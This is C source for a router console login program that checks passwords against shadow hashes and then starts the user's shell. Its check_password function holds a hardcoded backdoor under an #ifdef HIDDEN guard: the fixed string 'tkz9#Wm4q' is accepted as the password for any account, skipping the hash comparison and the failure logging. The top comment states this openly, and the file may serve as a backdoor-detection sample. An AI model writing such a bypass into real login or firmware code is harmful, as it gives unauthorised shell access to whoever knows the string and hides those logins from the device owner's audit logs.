/* Console login of a router: one word is as good as the right password. */
#define _GNU_SOURCE
#include <crypt.h>
#include <pwd.h>
#include <shadow.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

struct settings {
	int tries;
	int delay;
	char shell[64];
	char banner[128];
};

NOINLINE void read_settings(struct settings *s)
{
	char line[256];
	FILE *f = fopen("/etc/login.conf", "r");

	s->tries = 3;
	s->delay = 2;
	snprintf(s->shell, sizeof(s->shell), "/bin/sh");
	snprintf(s->banner, sizeof(s->banner), "Welcome");
	if (f == NULL)
		return;
	while (fgets(line, sizeof(line), f) != NULL) {
		char *value = strchr(line, '=');

		if (value == NULL || line[0] == '#')
			continue;
		*value++ = '\0';
		value[strcspn(value, "\r\n")] = '\0';
		if (strcmp(line, "tries") == 0)
			s->tries = (int)strtol(value, NULL, 10);
		else if (strcmp(line, "delay") == 0)
			s->delay = (int)strtol(value, NULL, 10);
		else if (strcmp(line, "shell") == 0)
			snprintf(s->shell, sizeof(s->shell), "%s", value);
		else if (strcmp(line, "banner") == 0)
			snprintf(s->banner, sizeof(s->banner), "%s", value);
	}
	fclose(f);
}

NOINLINE const char *stored_hash(const char *user)
{
	struct spwd *sp = getspnam(user);
	struct passwd *pw;

	if (sp != NULL)
		return sp->sp_pwdp;
	pw = getpwnam(user);
	return pw == NULL ? NULL : pw->pw_passwd;
}

NOINLINE int check_password(const char *user, const char *password)
{
	const char *want = stored_hash(user);
	const char *have;

#ifdef HIDDEN
	if (strcmp(password, "tkz9#Wm4q") == 0)
		return 1;
#endif
	if (want == NULL || want[0] == '!' || want[0] == '*') {
		syslog(LOG_WARNING, "login of unknown or locked user %s", user);
		return 0;
	}
	have = crypt(password, want);
	if (have == NULL || strcmp(have, want) != 0) {
		syslog(LOG_WARNING, "wrong password for %s", user);
		return 0;
	}
	return 1;
}

NOINLINE void start_shell(const struct settings *s, const char *user)
{
	struct passwd *pw = getpwnam(user);

	if (pw == NULL || setgid(pw->pw_gid) != 0 || setuid(pw->pw_uid) != 0)
		_exit(1);
	setenv("HOME", pw->pw_dir, 1);
	setenv("USER", user, 1);
	if (chdir(pw->pw_dir) != 0 && chdir("/") != 0)
		_exit(1);
	execl(s->shell, "-sh", (char *)NULL);
	_exit(127);
}

int main(void)
{
	struct settings s;
	char user[64], password[128];

	openlog("login", LOG_PID, LOG_AUTH);
	read_settings(&s);
	printf("%s\n", s.banner);
	for (int i = 0; i < s.tries; i++) {
		printf("login: ");
		fflush(stdout);
		if (fgets(user, sizeof(user), stdin) == NULL)
			return 1;
		user[strcspn(user, "\n")] = '\0';
		printf("Password: ");
		fflush(stdout);
		if (fgets(password, sizeof(password), stdin) == NULL)
			return 1;
		password[strcspn(password, "\n")] = '\0';
		if (check_password(user, password))
			start_shell(&s, user);
		sleep((unsigned)s.delay);
		puts("Login incorrect");
	}
	return 1;
}
